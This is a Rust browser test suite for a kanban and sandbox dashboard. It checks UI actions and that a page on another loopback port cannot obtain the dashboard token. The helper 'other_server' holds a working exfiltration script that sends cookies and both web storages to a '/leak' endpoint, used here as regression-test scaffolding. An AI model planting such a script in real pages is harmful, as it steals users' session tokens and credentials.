//! The dashboard in a real browser: Debian's chromium driven through chromium-driver (WebDriver) with fantoccini.
//! It opens the dashboard with the token, sees the tasks it created, blocks one through the page (with a reason),
//! sees a task the CLI creates appear without a reload within 1 s, watches a worker's log live, stops a sandbox from
//! its page, and takes the guide's screenshot (written to `docs/dashboard.png` when `BERTH_UPDATE_SCREENSHOT=1`).
//! A server on another loopback port the browser visits gets nothing that opens the dashboard (issue 38). As an
//! operator's console (issue 41): a dismissed confirmation changes nothing, the filter, complete, bulk retry and a
//! confirmed archive from the page, the archived column kept across live updates, why a card waits, local times, no
//! horizontal scroll at 390 px, and no foreign sandbox listed or acted on.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::json;

use crate::dashboard::{Served, http};
use crate::support::{Home, berth_bin, workspace};

/// chromium-driver on a port of its own, stopped (by its pid) when dropped.
struct Driver {
    child: Child,
    port: u16,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The browser's programs, or `None` (the test is skipped with a note) outside CI; under `CI=true` they must be
/// there (`.ci/run` installs them).
fn driver() -> Option<Driver> {
    let present = |p: &str| std::path::Path::new(p).exists();
    if !present("/usr/bin/chromium") || !present("/usr/bin/chromedriver") {
        let ci = std::env::var("CI").is_ok_and(|v| v == "true" || v == "1");
        assert!(
            !ci,
            "CI=true but chromium or chromedriver is missing: `.ci/run` installs chromium and chromium-driver"
        );
        crate::support::skip(
            "chromium and chromium-driver are not installed (apt-get install chromium chromium-driver)",
        );
        return None;
    }
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let child = Command::new("/usr/bin/chromedriver")
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("chromedriver starts");
    let driver = Driver { child, port };
    crate::support::wait_until("chromedriver to listen", Duration::from_secs(10), || {
        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
    });
    Some(driver)
}

async fn browser(driver: &Driver) -> Client {
    let mut caps = serde_json::Map::new();
    let args = ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1500,900"];
    caps.insert("goog:chromeOptions".into(), json!({"binary": "/usr/bin/chromium", "args": args}));
    ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{}", driver.port))
        .await
        .expect("a chromium session")
}

/// Waits up to `limit` for `css` to match; how long it took.
async fn appears(c: &Client, css: &str, limit: Duration) -> Duration {
    let start = Instant::now();
    c.wait()
        .at_most(limit)
        .every(Duration::from_millis(20))
        .for_element(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css} did not appear within {limit:?}: {e}"));
    start.elapsed()
}

#[test]
fn dashboard_in_a_real_browser() {
    let Some(driver) = driver() else { return };
    crate::support::require_docker();
    let home = Home::new();
    home.ok(&["profile", "create", "alpha"]);
    let first = home.json(&["kanban", "create", "write the parser", "--assignee", "alpha", "--command", "true"]);
    let second = home.json(&["kanban", "create", "review the parser", "--command", "true"]);
    let (first, second) = (first["id"].as_str().unwrap().to_owned(), second["id"].as_str().unwrap().to_owned());
    // Workers "dispatch now" starts print a few lines slowly, then complete their task.
    let worker = format!(
        "for i in 1 2 3 4 5 6 7 8 9 10; do echo log-line-$i; sleep 0.4; done; {} kanban complete {{task_id}}",
        berth_bin().display()
    );
    let d = Served::start(&home, &[("KANBAN_WORKER_COMMAND", &worker)]);
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let c = browser(&driver).await;
        c.goto(&d.url()).await.unwrap();
        // The token went into the page's storage (no cookie) and out of the address.
        assert!(!c.current_url().await.unwrap().as_str().contains("token="));
        appears(&c, &format!("section[data-status=ready] #card-{first}"), Duration::from_secs(5)).await;
        appears(&c, &format!("section[data-status=ready] #card-{second}"), Duration::from_secs(5)).await;
        appears(&c, "#live.on", Duration::from_secs(5)).await;

        // Block through the page (it asks why): the card moves to the blocked column, the reason recorded.
        c.find(Locator::Css(&format!("#card-{second} button[data-action=block]")))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        dialog(&c, Answer::Type("waits for the parser")).await;
        let took = appears(&c, &format!("section[data-status=blocked] #card-{second}"), Duration::from_secs(2)).await;
        eprintln!("blocked through the page: shown after {} ms", took.as_millis());
        assert!(c.find(Locator::Css("#flash.ok")).await.unwrap().text().await.unwrap().contains("blocked"));
        let shown = home.json(&["kanban", "show", &second]);
        assert_eq!(shown["task"]["status"], "blocked");
        let blocked = shown["events"].as_array().unwrap().iter().rev().find(|e| e["kind"] == "blocked").cloned();
        assert_eq!(blocked.unwrap()["payload"]["reason"], "waits for the parser", "{shown}");

        // A task the CLI creates appears without a reload within 1 s.
        c.execute("window.__berthMarker = 42; return null;", vec![]).await.unwrap();
        let third = home.json(&["kanban", "create", "made by the CLI", "--command", "true"]);
        let third = third["id"].as_str().unwrap();
        let took = appears(&c, &format!("section[data-status=ready] #card-{third}"), Duration::from_secs(1)).await;
        eprintln!("a task created by the CLI appeared after {} ms", took.as_millis());
        let marker = c.execute("return window.__berthMarker || null;", vec![]).await.unwrap();
        assert_eq!(marker, json!(42), "the page was not reloaded");

        // Dispatch now: the assigned task runs; its page tails the worker's log while it prints.
        c.find(Locator::Id("dispatch")).await.unwrap().click().await.unwrap();
        appears(&c, &format!("section[data-status=running] #card-{first}"), Duration::from_secs(5)).await;
        screenshot(&c).await;
        // Opened without the token in its address: the page's script fetches it with the token it keeps.
        c.goto(&format!("{}/tasks/{first}", d.base)).await.unwrap();
        appears(&c, "#log", Duration::from_secs(5)).await;
        let log = c.find(Locator::Id("log")).await.unwrap();
        let start = Instant::now();
        while !log.text().await.unwrap().contains("log-line-3") {
            assert!(start.elapsed() < Duration::from_secs(5), "the log did not show its lines");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(home.json(&["kanban", "show", &first])["task"]["status"], "running", "seen while it prints");

        // A sandbox stopped from its page: the page says so, and its row shows it stopped.
        let sandbox = home.json(&["sandbox", "ensure", "--task", "in-browser"]);
        let id = sandbox["id"].as_str().unwrap();
        c.goto(&format!("{}/sandboxes", d.base)).await.unwrap();
        let stop = format!("button[data-sandbox='{id}'][data-sandbox-action=stop]");
        c.wait()
            .at_most(Duration::from_secs(10))
            .for_element(Locator::Css(&stop))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        dialog(&c, Answer::Accept).await;
        appears(&c, "#flash.ok", Duration::from_secs(15)).await;
        let said = c.find(Locator::Css("#flash")).await.unwrap().text().await.unwrap();
        assert!(said.contains("stopped"), "{said}");
        assert_eq!(home.inspect(id, "{{.State.Status}}"), "exited");
        // The table is fetched again: the row offers remove only.
        let start = Instant::now();
        while c.find(Locator::Css(&stop)).await.is_ok() {
            assert!(start.elapsed() < Duration::from_secs(15), "the stopped sandbox still offers stop");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        c.find(Locator::Css(&format!("button[data-sandbox='{id}'][data-sandbox-action=remove]"))).await.unwrap();
        c.close().await.unwrap();
    });
}

/// How a test answers the page's dialog (confirm or prompt).
enum Answer<'a> {
    Accept,
    Dismiss,
    Type(&'a str),
}

/// Answers the page's dialog and returns its text. The page opens it within the click's own handler, so it is open
/// when the click returns.
async fn dialog(c: &Client, answer: Answer<'_>) -> String {
    let text = c.get_alert_text().await.unwrap_or_else(|e| panic!("no dialog opened: {e}"));
    match answer {
        Answer::Accept => c.accept_alert().await.unwrap(),
        Answer::Dismiss => c.dismiss_alert().await.unwrap(),
        Answer::Type(t) => {
            c.send_alert_text(t).await.unwrap();
            c.accept_alert().await.unwrap();
        }
    }
    text
}

/// Clicks the first element `css` matches; found again when the page swapped its live part in between (a board
/// change redraws every card).
async fn click(c: &Client, css: &str) {
    for _ in 0..5 {
        let found = c.find(Locator::Css(css)).await.unwrap_or_else(|e| panic!("{css}: {e}"));
        match found.click().await {
            Ok(()) => return,
            Err(e) if e.is_stale_element_reference() => {}
            Err(e) => panic!("click {css}: {e}"),
        }
    }
    panic!("{css} was redrawn under every click");
}

/// Whether the page is wider than its window (a horizontal scroll bar).
async fn scrolls_sideways(c: &Client) -> (i64, i64) {
    let v = c
        .execute("return [document.documentElement.scrollWidth, document.documentElement.clientWidth];", vec![])
        .await
        .unwrap();
    (v[0].as_i64().unwrap(), v[1].as_i64().unwrap())
}

/// A container made outside this home, removed (by its id) when dropped.
struct Foreign(String);

impl Drop for Foreign {
    fn drop(&mut self) {
        crate::support::docker(&["rm", "-f", &self.0]);
    }
}

/// `docker create` of a container with hermes's labels and `extra` ones, named `name`; its id.
fn labelled(name: &str, task: &str, profile: &str, extra: &[&str]) -> Foreign {
    let (t, p) = (format!("hermes-task-id={task}"), format!("hermes-profile={profile}"));
    let mut args = vec!["create", "--name", name, "--label", "hermes-agent=1", "--label", &t, "--label", &p];
    for l in extra {
        args.extend(["--label", l]);
    }
    args.extend([crate::support::IMAGE, "sleep", "600"]);
    let out = crate::support::docker(&args);
    assert!(out.status.success(), "docker create: {}", String::from_utf8_lossy(&out.stderr));
    Foreign(crate::support::ids(&out).remove(0))
}

#[test]
fn dashboard_is_an_operators_console() {
    let Some(driver) = driver() else { return };
    crate::support::require_docker();
    let home = Home::new();
    let create = |title: &str, extra: &[&str]| -> String {
        let mut args = vec!["kanban", "create", title, "--command", "true"];
        args.extend(extra);
        home.json(&args)["id"].as_str().unwrap().to_owned()
    };
    let keep = create("keep me around", &[]);
    let finish = create("finish me by hand", &["--assignee", &home.profile]);
    let zebra = create("the zebra task", &["--assignee", &home.profile]);
    // Sandboxes: this home's own, a hermes-made one of this home's profile (listed), one of another home with this
    // profile's name, and a hermes-made one of a profile this home does not have (neither listed nor actionable).
    let suffix =
        format!("{:x}", std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos());
    home.json(&["sandbox", "ensure", "--task", "console-own"]);
    let _hermes_ours = labelled(&format!("hermes-ours-{suffix}"), "hermes-ours", &home.profile, &[]);
    let other_home =
        labelled(&format!("berth-otherhome-{suffix}"), "other-home", &home.profile, &["berth.home=0123456789abcdef"]);
    let stranger = labelled(&format!("hermes-stranger-{suffix}"), "stranger", &format!("stranger{suffix}"), &[]);

    let d = Served::start(&home, &[]);
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let c = browser(&driver).await;
        c.goto(&d.url()).await.unwrap();
        appears(&c, &format!("section[data-status=ready] #card-{keep}"), Duration::from_secs(5)).await;
        appears(&c, "#live.on", Duration::from_secs(5)).await;

        // Archive asks first; dismissed, nothing happens.
        click(&c, &format!("#card-{keep} button[data-action=archive]")).await;
        let asked = dialog(&c, Answer::Dismiss).await;
        assert!(asked.contains(&keep) && asked.contains("Archive"), "{asked}");
        // scenario: time for the request a dismissed dialog must not send to land, were it sent.
        tokio::time::sleep(Duration::from_millis(500)).await;
        assert_eq!(home.json(&["kanban", "show", &keep])["task"]["status"], "ready", "a dismissed archive archived");
        appears(&c, &format!("section[data-status=ready] #card-{keep}"), Duration::from_secs(1)).await;

        // Why each ready card waits: the code `dispatch --dry-run --explain` gives for it.
        let explain = home.json(&["kanban", "dispatch", "--dry-run", "--explain"]);
        let code_of = |id: &str| -> String {
            let row = explain["explain"].as_array().unwrap().iter().find(|r| r["task_id"] == id).cloned();
            row.unwrap_or_else(|| panic!("{id} not explained: {explain}"))["code"].as_str().unwrap().to_owned()
        };
        for id in [&keep, &finish] {
            let why = c.find(Locator::Css(&format!("#card-{id} .why"))).await.unwrap().text().await.unwrap();
            assert!(why.contains(&code_of(id)), "card {id} says {why:?}, --explain says {}", code_of(id));
        }
        assert_eq!(code_of(&keep), "skipped_unassigned");

        // The filter: only the matching card is shown; cleared, all are.
        let filter = c.find(Locator::Id("filter")).await.unwrap();
        filter.send_keys("zebra").await.unwrap();
        let shown = |id: String| {
            let c = c.clone();
            async move { c.find(Locator::Id(&format!("card-{id}"))).await.unwrap().is_displayed().await.unwrap() }
        };
        assert!(shown(zebra.clone()).await, "the matching card is shown");
        assert!(!shown(keep.clone()).await && !shown(finish.clone()).await, "the others are hidden");
        filter.clear().await.unwrap();
        filter.send_keys(&home.profile).await.unwrap();
        assert!(shown(zebra.clone()).await && shown(finish.clone()).await && !shown(keep.clone()).await, "by profile");
        filter.clear().await.unwrap();
        filter.send_keys(" ").await.unwrap();
        assert!(shown(keep.clone()).await, "an empty filter shows every card");

        // Complete from the page: asked, then done.
        click(&c, &format!("#card-{finish} button[data-action=complete]")).await;
        dialog(&c, Answer::Accept).await;
        appears(&c, &format!("section[data-status=done] #card-{finish}"), Duration::from_secs(3)).await;
        assert_eq!(home.json(&["kanban", "show", &finish])["task"]["status"], "done");

        // Bulk: block one (with its reason), select it and another, retry both: the blocked one is ready again.
        click(&c, &format!("#card-{zebra} button[data-action=block]")).await;
        dialog(&c, Answer::Type("wait")).await;
        appears(&c, &format!("section[data-status=blocked] #card-{zebra}"), Duration::from_secs(3)).await;
        click(&c, &format!("#card-{zebra} input.pick")).await;
        click(&c, &format!("#card-{keep} input.pick")).await;
        click(&c, "button[data-bulk=retry]").await;
        let asked = dialog(&c, Answer::Accept).await;
        assert!(asked.contains("2 task"), "{asked}");
        appears(&c, &format!("section[data-status=ready] #card-{zebra}"), Duration::from_secs(3)).await;
        assert_eq!(home.json(&["kanban", "show", &zebra])["task"]["status"], "ready");

        // Archive, confirmed: archived; "show archived" shows its column, which stays across live updates.
        click(&c, &format!("#card-{keep} button[data-action=archive]")).await;
        dialog(&c, Answer::Accept).await;
        crate::support::wait_until("the task to be archived", Duration::from_secs(5), || {
            home.json(&["kanban", "show", &keep])["task"]["status"] == "archived"
        });
        click(&c, "#archived-toggle").await;
        appears(&c, &format!("section[data-status=archived] #card-{keep}"), Duration::from_secs(5)).await;
        appears(&c, "#live.on", Duration::from_secs(5)).await;
        let later = create("made while archived are shown", &[]);
        appears(&c, &format!("section[data-status=ready] #card-{later}"), Duration::from_secs(2)).await;
        c.find(Locator::Css(&format!("section[data-status=archived] #card-{keep}"))).await.unwrap();

        // The task page: its event times are local time strings, not epoch numbers or raw RFC 3339.
        c.goto(&format!("{}/tasks/{finish}", d.base)).await.unwrap();
        appears(&c, "table.events time", Duration::from_secs(5)).await;
        // Read in one script: the live part is swapped in again (whole) whenever the board changes.
        let seen = c
            .execute(
                "const t = [...document.querySelectorAll('table.events time')].map(e => [e.textContent, \
                 e.getAttribute('datetime')]); return [t, document.querySelector('table.events').innerText];",
                vec![],
            )
            .await
            .unwrap();
        let times = seen[0].as_array().unwrap();
        assert!(!times.is_empty(), "{seen}");
        for t in times {
            let (text, at) = (t[0].as_str().unwrap(), t[1].as_str().unwrap());
            assert!(!text.is_empty() && text != at && !text.chars().all(|ch| ch.is_ascii_digit()), "{text} ({at})");
        }
        let events = seen[1].as_str().unwrap();
        assert!(
            !events.split_whitespace().any(|w| w.len() >= 13 && w.chars().all(|ch| ch.is_ascii_digit())),
            "{events}"
        );

        // Sandboxes: this home's, and the hermes-made one of its profile; no foreign one.
        c.goto(&format!("{}/sandboxes", d.base)).await.unwrap();
        appears(&c, "button[data-sandbox-action=remove]", Duration::from_secs(15)).await;
        let page = c.source().await.unwrap();
        assert!(page.contains("console-own") && page.contains("hermes-ours"), "ours are listed");
        assert!(!page.contains("other-home") && !page.contains(&other_home.0), "another home's sandbox is listed");
        assert!(!page.contains("stranger") && !page.contains(&stranger.0), "another user's hermes sandbox is listed");

        // 390 px wide: no page scrolls sideways.
        c.set_window_size(390, 844).await.unwrap();
        for path in ["/", &format!("/tasks/{finish}"), "/sandboxes", "/profiles", "/hosts", "/diagnostics"] {
            c.goto(&format!("{}{path}", d.base)).await.unwrap();
            appears(&c, "main", Duration::from_secs(15)).await;
            let (wide, window) = scrolls_sideways(&c).await;
            assert!(wide <= window, "{path} is {wide} px wide in a {window} px window");
        }
        c.close().await.unwrap();
    });
    // Nor is a foreign sandbox acted on through the API: it stays as it was.
    for f in [&other_home, &stranger] {
        for action in ["stop", "remove"] {
            let (status, body) = d.post(&format!("/api/sandboxes/{}/{action}", f.0), "{}");
            assert_eq!(status, 400, "{action} of a foreign sandbox: {body}");
            assert!(body.contains("no sandbox"), "{body}");
        }
        assert_eq!(home.inspect(&f.0, "{{.State.Status}}"), "created", "a foreign sandbox was touched");
    }
}

/// The guide's picture (docs/dashboard.md): into `docs/` when asked (`BERTH_UPDATE_SCREENSHOT=1`), else checked and dropped.
async fn screenshot(c: &Client) {
    let png = c.screenshot().await.unwrap();
    assert!(png.starts_with(b"\x89PNG"), "a PNG");
    if std::env::var("BERTH_UPDATE_SCREENSHOT").is_ok_and(|v| v == "1") {
        std::fs::write(workspace().join("docs/dashboard.png"), &png).unwrap();
    }
}

/// A server on another loopback port, as any local user may run: it keeps the head of every request it gets, and
/// answers with a page that sends back what a page of its own origin can read (`document.cookie`, both storages).
fn other_server() -> (u16, Arc<Mutex<String>>, std::sync::mpsc::Receiver<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(String::new()));
    let keep = Arc::clone(&seen);
    let (reported, report) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let mut head = String::new();
            let mut r = BufReader::new(conn.try_clone().unwrap());
            while r.read_line(&mut head).is_ok_and(|n| n > 2) {}
            keep.lock().unwrap().push_str(&head);
            if head.starts_with("GET /leak") {
                let _ = reported.send(());
            }
            let page = "<!doctype html><title>other</title><script>fetch('/leak?' + encodeURIComponent(\
                        document.cookie + ' ' + JSON.stringify(localStorage) + ' ' + JSON.stringify(sessionStorage)))\
                        </script>";
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}",
                page.len()
            );
        }
    });
    (port, seen, report)
}

/// The attack of issue 38: a browser logged in to the dashboard visits a page on another port of 127.0.0.1. Before,
/// the dashboard's cookie went along (cookies are per host, not per port) and, replayed, opened `GET /api/boards`.
/// Now nothing the other server receives or its page can read opens it: every cookie it was sent, replayed, and every
/// 32-digit hex string it saw, tried as the token in each way the dashboard takes one, answer 401. The dashboard
/// opened again without the token in its address still works (its script keeps the token).
#[test]
fn a_server_on_another_loopback_port_gets_nothing_that_opens_the_dashboard() {
    let Some(driver) = driver() else { return };
    let home = Home::new();
    let d = Served::start(&home, &[]);
    let (other, seen, report) = other_server();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let c = browser(&driver).await;
        c.goto(&d.url()).await.unwrap();
        appears(&c, "#live.on", Duration::from_secs(5)).await;
        c.goto(&format!("http://127.0.0.1:{other}/")).await.unwrap();
        report.recv_timeout(Duration::from_secs(10)).expect("the other page reports what it can read");
        // Back to the dashboard without the token in the address: the page is shown, live.
        c.goto(&d.base).await.unwrap();
        appears(&c, "#live.on", Duration::from_secs(5)).await;
        c.close().await.unwrap();
    });
    let seen = seen.lock().unwrap().clone();
    let port = d.base.rsplit(':').next().unwrap();
    let opens =
        |headers: &[(&str, &str)], query: &str| http(&d.base, "GET", &format!("/api/boards{query}"), headers, "").0;
    for line in seen.lines().filter(|l| l.to_ascii_lowercase().starts_with("cookie:")) {
        let cookie = line.split_once(':').unwrap().1.trim();
        assert_ne!(
            opens(&[("cookie", cookie)], ""),
            200,
            "a cookie sent to port {other} opens the dashboard: {cookie}"
        );
    }
    let hex: Vec<char> = seen.chars().collect();
    let mut candidates: Vec<String> = hex.windows(32).map(|w| w.iter().collect::<String>()).collect();
    candidates.retain(|w| w.chars().all(|c| c.is_ascii_hexdigit()));
    candidates.dedup();
    for t in &candidates {
        let bearer = format!("Bearer {t}");
        let cookie = format!("berth_token_{port}={t}");
        assert_ne!(opens(&[("authorization", &bearer)], ""), 200, "{t} seen by port {other} is the token");
        assert_ne!(opens(&[("cookie", &cookie)], ""), 200, "{t} seen by port {other} opens as a cookie");
        assert_ne!(opens(&[], &format!("?token={t}")), 200, "{t} seen by port {other} opens in the URL");
    }
    assert!(!seen.contains(&d.token), "the other server saw the token:\n{seen}");
}
